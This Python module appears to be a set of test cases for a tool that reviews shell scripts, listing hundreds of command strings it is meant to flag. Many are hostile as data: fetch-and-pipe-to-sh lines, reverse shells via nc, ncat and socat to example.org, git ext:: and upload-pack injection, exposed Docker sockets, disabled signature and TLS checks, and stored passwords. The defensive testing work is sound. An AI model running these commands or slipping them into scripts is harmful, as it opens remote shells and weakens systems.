"""What few scripts do: each line is a way through the review that nothing else takes."""

from __future__ import annotations

from tests.unit.checks.scripts.cases.making import COMMIT, FETCH, GET, SUM, URL, each, lines

RUN = f"{FETCH} | sh"
REPOSITORIES = [
    *lines(
        f"""
        cp r/a /usr/local/bin/; a
        cp r/a /usr/local/bin/b; b
        cp r/a /usr/local/bin/b; cat /usr/local/bin/b
        install -m 755 r/bin/a /usr/local/bin/a; /usr/local/bin/a
        install -t /usr/local/bin r/a r/b; b
        cp -r r/ /opt/x; bash /opt/x/a
        cp other/a /usr/local/bin/; a
        pip install ./r
        pip install r/
        npm install ./r/sub
        pip install .
        cd r && pip install .
        cd r; cd sub; pip install .
        cd r; make
        cd other; make
        cd r; cd ..; make
        pushd r; ./a
        make -C r
        make --directory=r
        cmake --build r
        just -f r/justfile
        cd /tmp; cd r; ./a
        cd; ./r/a
        cd -; ./r/a
        r/a
        ./r/a
        bash r/a
        . r/a
        python3 r/a.py
        git -C r checkout {COMMIT}; r/a
        git -C r checkout 0123456; r/a
        git -C r checkout 012345; r/a
        git -C r checkout v1.2; r/a
        git -C r checkout tags/v1.2; r/a
        git -C r checkout main; r/a
        git -C r checkout "$commit"; r/a
        git -C r checkout "$({FETCH})"; r/a
        git -C other checkout {COMMIT}; r/a
        git -C r reset --hard {COMMIT}; r/a
        git -C r switch --detach {COMMIT}; r/a
        git -C r rebase {COMMIT}; r/a
        git -C r merge {COMMIT}; r/a
        git -C r checkout {COMMIT}; git -C r merge origin/main; r/a
        git -C r checkout {COMMIT}; git -C r rebase upstream/main; r/a
        git -C r checkout {COMMIT}; git -C r pull; r/a
        git -C r checkout {COMMIT}; git -C r submodule update --remote; r/a
        git -C r checkout {COMMIT}; git -C r submodule update; r/a
        git -C r checkout {COMMIT}; git -C r fetch; git -C r checkout FETCH_HEAD; r/a
        git -C r checkout {COMMIT}; git -C r fetch origin {COMMIT}; git -C r checkout FETCH_HEAD; r/a
        git -C r checkout {COMMIT}; git -C r fetch origin main; git -C r reset --hard '@{{u}}'; r/a
        git -C r show HEAD:a | sh
        git -C r cat-file -p HEAD:a | sh
        git -C r archive HEAD | tar x; ./a
        git -C r log | sh
        git -C other show HEAD:a | sh
        git fetch; git show origin/main:a | sh
        git show origin/main:a | sh
        """,
        "git clone https://example.org/r\n",
    ),
    *lines(
        """
        git clone https://example.org/r.git; r/a
        git clone git@example.org:r; r/a
        git clone git@example.org:r.git; r/a
        git clone example.org:r; r/a
        git clone ssh://example.org/r/; r/a
        git clone "$base/r"; r/a
        git clone /srv/r; r/a
        git clone ../r; r/a
        git clone https://example.org/r .; ./a
        mkdir d; cd d; git clone https://example.org/r .; ./a
        cd d; git clone https://example.org/r .; cd ..; d/a
        git clone https://example.org/r d; d/a
        git clone https://example.org/r /opt/d.git; /opt/d/a
        git clone https://example.org/r d; git clone https://example.org/s; git -C d checkout 0123456; d/a; s/a
        git clone https://example.org/r d; git clone https://example.org/s; cd s; git checkout 0123456; ../d/a; ./a
        git clone -b v1.0 https://example.org/r; r/a
        git clone --branch main https://example.org/r; r/a
        git clone -b "$tag" https://example.org/r; r/a
        git clone --revision 0123456 https://example.org/r; r/a
        git clone
        svn checkout https://example.org/r; r/a
        svn co https://example.org/r d; d/a
        svn co -r 12 https://example.org/r d; d/a
        svn export https://example.org/r d; d/a
        svn info https://example.org/r
        svn co
        hg clone https://example.org/r; r/a
        hg clone --rev 12 https://example.org/r; r/a
        gh repo clone a/r; r/a
        gh repo clone a/r d; d/a
        gh repo view a/r | sh
        gh repo clone
        """
    ),
]
SETTINGS = [
    *each(
        "git config --global {}",
        rf"core.hooksPath\ hooks core.hooksPath\ /tmp/hooks core.hooksPath\ $x credential.helper\ store "
        rf"credential.helper\ cache credential.helper\ '!{FETCH.replace(' ', chr(92) + ' ')}\ |\ sh' alias.st\ status "
        r"core.pager\ less core.editor alias.x\ '!true' core.sshCommand\ 'ssh\ -i\ k'",
    ),
    *lines(
        f"""
        git -c core.hooksPath=/tmp/h status
        git -c alias.x='!{RUN}' x
        git -c alias.x='log {RUN}' x
        git -c core.sshCommand='{RUN}' fetch
        git -c core.fsmonitor='{RUN}' status
        git clone ext::sh {URL}
        git fetch ext::x
        git pull ext::x
        git push ext::x
        git ls-remote ext::x
        git archive --remote=ext::x HEAD
        git log ext::x
        git clone -u '{RUN}' a:b
        git clone --upload-pack '{RUN}' a:b
        git ls-remote -u '{RUN}' a:b
        git ls-remote --exec='{RUN}' a:b
        git fetch --upload-pack '{RUN}'
        git pull --upload-pack '{RUN}'
        git push --receive-pack='{RUN}'
        git push --exec '{RUN}'
        git archive --exec '{RUN}' --remote=a:b HEAD
        git fetch -u '{RUN}'
        git log -u '{RUN}'
        git clone --template=/tmp/t a:b
        git init --template=/tmp/t
        git init --template=/usr/share/t
        git log --template=/tmp/t
        git ls-remote {URL} | sh
        git archive --remote={URL} HEAD | tar x
        """
    ),
]
FETCHED = [
    *lines(
        f"""
        gh release download v1 -R a/b -p '*.deb'; dpkg -i *.deb
        gh release download v1 -R a/b -O got; bash got
        gh release download v1 -R a/b -O - | sh
        gh release download v1 -R a/b -D d -p got; bash d/got
        gh release download v1 -R a/b; bash got
        gh release list
        gh api x | sh
        gh gist view x | sh
        gh attestation verify i.sh --owner a
        aws s3 cp s3://b/a - | sh
        aws s3 cp s3://b/a got; bash got
        aws s3 cp got s3://b/a
        aws s3 ls s3://b | sh
        gsutil cp gs://b/a got; bash got
        gcloud storage cp gs://b/a got; bash got
        dvm-fetch {URL}
        dvm-fetch {URL} {SUM} got; bash got
        dvm-fetch {URL} {SUM} got --mode 755; ./got
        dvm-fetch --mode 755 {URL} {SUM} got; ./got
        dvm-fetch -m 755 {URL} {SUM} got; ./got
        dvm-fetch {URL} 0123 got; bash got
        dvm-fetch {URL} "$sum" got; bash got
        dvm-fetch {URL} "$({FETCH}.sum)" got; bash got
        aria2c --checksum=sha-256={SUM} -o got {URL}; bash got
        aria2c --checksum=sha-1={SUM} -o got {URL}; bash got
        aria2c --checksum=sha-512="$({FETCH})" -o got {URL}; bash got
        nc example.org 80 -e /bin/sh
        ncat --exec /bin/sh example.org 80
        ncat --sh-exec 'cat; sh' example.org 80
        nc -c sh example.org 80
        nc -l 80 -e /bin/cat
        socat TCP:example.org:80 EXEC:sh
        socat TCP:example.org:80 SYSTEM:'cat | sh',pty
        socat TCP:example.org:80 exec:/bin/cat
        dig -e sh
        printf -v 'a[$({RUN})]' x
        read 'a[$({RUN})]' <<< x
        test -v 'a[$({RUN})]'
        echo 'a[$({RUN})]'
        split --filter=cat i.sh
        split --filter=sh i.sh
        cat i.sh | split --filter sh -
        perl -MLWP::Simple -e 'eval get $ARGV[0]'
        perl -MPOSIX -e 'print 1'
        ruby -ropen-uri -e 'eval open(ARGV[0]).read'
        php -r "copy('{URL}', 'got');"; php got
        php -r "copy('{URL}', 'got');"; [ "$(php -r "echo hash_file('sha256', 'got');")" = {SUM} ]; php got
        php -r "copy('{URL}', 'got');"; [ "$(php -r "echo hash_file('md5', 'got');")" = {SUM} ]; php got
        php -r "copy('a', 'got');"; php got
        python3 -c "print(__import__('hashlib').sha256(open('i.sh','rb').read()).hexdigest())" | grep -q {SUM}; sh i.sh
        python3 -c "import urllib.request as u; u.urlretrieve('{URL}', filename='got')"; sh got
        python3 -c "import urllib.request as u; open('got','wb').write(u.urlopen('{URL}').read())"; sh got
        julia -e 'include(download("{URL}"))'
        julia -e 'println(1)'
        deno install -n x {URL}
        deno compile --output x {URL}
        deno fmt {URL}
        cosign verify-blob i.sh --signature s --certificate c --certificate-identity-regexp '.*'; sh i.sh
        cosign verify-blob i.sh --signature s --certificate c --certificate-identity-regexp 'a.*'; sh i.sh
        cosign verify-blob i.sh --signature s --certificate c --certificate-identity "$who"; sh i.sh
        cosign verify-blob i.sh --signature s --key k.pub; sh i.sh
        cosign verify-blob i.sh --signature s --key i.sh; sh i.sh
        minisign -Vqm i.sh -P RWabc; sh i.sh
        minisign -V -m i.sh -P RWabc; sh i.sh
        minisign -Sm i.sh -P RWabc; sh i.sh
        """,
        GET,
    ),
]
NAMES = [
    *lines(
        f"""
        x=$(true); for i in {" ".join(f"w{n}" for n in range(300))}; do y=$i; done; eval "$y"
        for i in {" ".join(f"w{n}" for n in range(257))}; do true; done
        for i in {" ".join(f"w{n}" for n in range(256))}; do true; done
        a=({" ".join(f"w{n}" for n in range(1025))})
        a=({" ".join(f"w{n}" for n in range(1024))})
        declare -n r="$x"; eval "$r"
        declare -fp f | sh
        typeset -f f | sh
        declare -p x | sh
        local x=a; show "$x"
        export "x=a b"; show "$x"
        x=$((1 1)); show "$x"
        if true; then x=a; else x=a; fi; show "$x"
        if true; then x=a; else x=b; fi; show "$x"
        f() {{ x=in; }}; x=out; f; show "$x"
        x=a; (x=b; show "$x"); show "$x"
        while read -r x; do show "$x"; done <<< 'a'
        coproc cat {URL}; sh <&"${{COPROC[0]}}"
        coproc C {{ {FETCH}; }}; sh <&"${{C[0]}}"
        ! {{ show a; }}
        cat <<< "$x" | sh
        cat <<< "$(date)" | sh
        """
    ),
    "x='" + "a\n" * 70000 + '\'\neval "$x"\n',
    *(f"{'{ ' * depth}{RUN}{'; }' * depth}\n" for depth in (30, 45, 60)),
]
OTHERS = [
    *lines(
        """
        dockerd -H tcp://0.0.0.0:2375
        dockerd --host=tcp://0.0.0.0:2375
        dockerd -H tcp://0.0.0.0:2376 --tlsverify
        dockerd -H unix:///run/docker.sock
        podman system service -t 0 tcp://0.0.0.0:2375
        echo '{"hosts": ["tcp://0.0.0.0:2375"]}' >/etc/docker/daemon.json
        echo '{"hosts": ["unix:///run/x"]}' >/etc/docker/daemon.json
        echo 'ExecStart=/usr/bin/dockerd -H tcp://0.0.0.0:2375' >/etc/systemd/system/docker.service.d/a.conf
        printf '[Socket]\\nSocketMode=0666\\n' >/etc/systemd/system/docker.socket.d/a.conf
        printf '[Socket]\\nSocketMode=0660\\n' >/etc/systemd/system/docker.socket.d/a.conf
        socat TCP-LISTEN:2375 UNIX-CONNECT:/run/docker.sock
        socat TCP-LISTEN:2375 UNIX-CONNECT:/run/other.sock
        openssl passwd -6 Sup3rS3cret2024
        openssl passwd -6 -stdin
        nmcli dev wifi connect home password Sup3rS3cret2024
        gpg --recv-keys ABCD1234; gpg --export ABCD1234 >/etc/apt/trusted.gpg.d/a.gpg
        gpg --recv-keys 9DC858229FC7DD38854AE2D88D81803C0EBFCD88; gpg --export x >/etc/apt/trusted.gpg.d/a.gpg
        apt-key adv --recv-keys ABCD1234
        apt-key adv --recv-keys 9DC858229FC7DD38854AE2D88D81803C0EBFCD88
        curl -fsSLo main.go https://example.org/main.go; go run main.go
        git clone https://example.org/t; cd t; npm ci
        git clone https://example.org/t; cd t; npm run setup
        git clone https://example.org/t; git -C t checkout 0123456; cd t; npm run setup
        git clone https://example.org/t; cd t; cargo install ripgrep@14.1.1
        git clone https://example.org/t; cd t; cargo install --path .
        git clone https://example.org/t; cd t; mix local.hex 2.1.1
        git clone https://example.org/t; docker build t
        git clone https://example.org/t; docker ps
        git clone https://example.org/t; ansible-playbook t/site.yml
        ssh -A me@host.lima.internal
        ssh -A me@example.org
        apt-get dist-upgrade
        dnf distro-sync
        rustup update
        rustup self update
        rustup upgrade
        rbenv init - bash | sh
        eval "$(rbenv init - bash)"
        eval "$(rbenv init bash)"
        eval "$(unknown - bash)"
        sed -i 's/^SigLevel.*/SigLevel = Never/' /etc/pacman.conf
        sed -i 's|^SigLevel.*|SigLevel = Required|' /etc/pacman.conf
        sed -i '$a insecure' ~/.curlrc
        sed -i '$a\\\\insecure' ~/.curlrc
        sed -i '1i check_certificate = off' /etc/wgetrc
        sed -i 's#.*#gpgcheck=0#' /etc/yum.repos.d/a.repo
        sed -i 's/a/b/' /etc/pacman.conf
        sed -i 's/a//' /etc/pacman.conf
        sed "s,.*/,," /etc/pacman.conf
        sed 's/.*/SigLevel = Never/' notes.txt
        echo ':ssl_verify_mode: 0' >~/.gemrc
        echo ':ssl_verify_mode: 1' >~/.gemrc
        vagrant box add --insecure a
        """
    ),
    *each("echo 'localhost:5432:*:app:{}' >~/.pgpass", "Sup3rS3cret2024 $PW changeme abc"),
    "echo 'localhost:5432:*:app:Sup3rS3cret2024' >~/other\n",
]
LATER = [
    *lines(
        f"""
        if true; then echo a >i.sh; fi; bash i.sh
        true && echo a >i.sh; bash i.sh
        echo a >i.sh; bash i.sh
        g() {{ exit 1; }}; f() {{ g; }}; echo '{SUM}  i.sh' | sha256sum -c || f; bash i.sh
        g() {{ return 1; }}; f() {{ g; }}; echo '{SUM}  i.sh' | sha256sum -c || f; bash i.sh
        for i in a b; do echo '{SUM}  i.sh' | sha256sum -c; done; bash i.sh
        for i in; do echo '{SUM}  i.sh' | sha256sum -c; done; bash i.sh
        while read -r l; do echo '{SUM}  i.sh' | sha256sum -c; done <<< a; bash i.sh
        until echo '{SUM}  i.sh' | sha256sum -c; do sleep 1; done; bash i.sh
        while ! echo '{SUM}  i.sh' | sha256sum -c; do exit 1; done; bash i.sh
        for i in a b; do echo '{SUM}  i.sh' | sha256sum -c || break; done; bash i.sh
        for i in a b; do echo '{SUM}  i.sh' | sha256sum -c || continue; bash i.sh; done
        minisign -Vm i.sh -P RWabc; sh i.sh
        "$@" a
        "$1" a
        eval "$!" "$#" "$?"
        eval "$-$RANDOM$SECONDS$LINENO$EPOCHSECONDS$BASHPID"
        show $'\\ud800' $'\\udfff' $'\\ud7ff' $'\\ue000'
        """,
        GET,
    ),
    *each(f"{{}} install https://example.org/a-1.whl#sha256={SUM}", "pip pip3 pipx uv uvx npm gem apt"),
    "git clone https://example.org/r\npip install r==1.0\n",
    "go install -ldflags example.org/b example.org/a@v1.0.0\n",
    "docker run -v a:b -e c d@sha256:" + SUM + " latest\n",
    "[[ " + "( " * 50 + "a" + " )" * 50 + " ]]\n",
    "x=$((" + "(" * 50 + "1" + ")" * 50 + "))\n",
    "echo " + "${x:-" * 50 + "a" + "}" * 50 + "\n",
    "echo " + "$(a " * 50 + ")" * 50 + "\n",
    "case a in a)show b;;(c)show d;; esac\n",
    'a[\\]]=5; show "${a[\\]]}" "${a[(\\)]}" $((1 + \\) 2))\n',
    "uvx --with requests ruff@0.5.0\n",
    "uv tool install --with=requests ruff==0.5.0\n",
    "pipx run --spec black==24.4.2 --with tool black .\n",
    "command_not_found_handler() { sh; }\n",
    f"curl -fsSLo i.sh https://example.org/i.sh\n[ \"$(sha256sum i.sh | cut -d' ' -f1)\" != {SUM} ] && echo differs || bash i.sh\n",
    "while read -r a b; do show $a $b; done <<'E'\n1 2 3\n\n# 4\nE\n",
    "while read -r a b; do [ $a ] || continue; show $a $b; done <<'E'\n1 2  3 \n\n # 4\nE\n",
    "while IFS=, read -r a b; do show x; continue; show $a $b; done <<'E'\n1,2,3\n,4\n5\n#,6\nE\n",
    "IFS= read -r a <<< ' 1 2 '; show $a; IFS=$x read -r a <<< 1; show $a; read -r a < /x; show $a\n",
    "IFS=:; read -r a b c <<< 1:2; show $a $b $c\n",
    "for t in a:1 b:2; do IFS=: read -r x y <<< $t; show $x $y; done; show $x $y\n",
    "while read -r a; do show $a; done <<'E'\n" + "".join(f"{number}\n" for number in range(257)) + "E\n",
    "git clone https://example.org/r /opt/r; PATH=/usr/bin:/opt/r/bin:$PATH show a; PATH=/opt/s; OTHER=/opt/r\n",
    f"curl -fsSLo tool-$(arch).tgz https://example.org/t\nsha256sum -c <<< '{SUM}  tool-x.tgz'\ntar xf tool-*.tgz\n",
    f"curl -fsSLo to-$(arch).tgz https://example.org/t\nsha256sum -c <<< '{SUM}  to-x.tgz'\n",
    f"curl -fsSLo t-$(arch).tgz https://example.org/t\nsha256sum -c <<< '{SUM}  t-x.tgz'\n",
    f"curl -fsSLo tool-$(arch).tgz https://example.org/t\nsha256sum -c <<< '{SUM}  tool-x.tbz'\n",
    f'curl -fsSLo tool-$(arch).tgz https://example.org/t\nsha256sum -c <<< "{SUM}  $x"\n',
    f"dvm-fetch https://example.org/k {SUM} /opt/kubectl --mode 755\n/opt/kubectl apply -f https://example.org/x.yaml\n",
    "IFS=$x; y='a b'; show $y\n",
    "curl -fsSLo i.sh https://example.org/i.sh; wrap a -- chmod +x i.sh; wrap a -- show b\n",
    "curl -D - -o i.txt https://example.org/i.sh | sh\n",
    "curl -fsSLo /opt/kubectl https://example.org/k\n/opt/kubectl apply -f https://example.org/x.yaml\n",
]
EVERY = [*LATER, *REPOSITORIES, *SETTINGS, *FETCHED, *NAMES, *OTHERS]
